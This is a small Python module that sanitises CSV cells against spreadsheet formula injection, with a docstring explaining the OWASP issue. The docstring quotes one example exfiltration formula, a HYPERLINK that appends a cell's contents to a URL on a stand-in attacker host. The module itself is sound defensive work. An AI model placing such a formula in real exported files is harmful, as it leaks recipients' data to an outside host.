"""The one rule for every CSV cell the app writes (OWASP "CSV injection").

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (``=HYPERLINK("https://evil.test?"&A1, "Pay")``, DDE payloads), and a
leading tab or carriage return can hide such a start. Text written by an
account or a client (names, addresses, notes, template texts, bank lines) is
prefixed with a single quote when it starts with one of them, so it stays text;
the csv module then quotes what needs quoting. Numbers the app formats itself
(amounts as ``Decimal``, counts as ``int``) are not text and are left alone, so
a negative amount stays a number.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
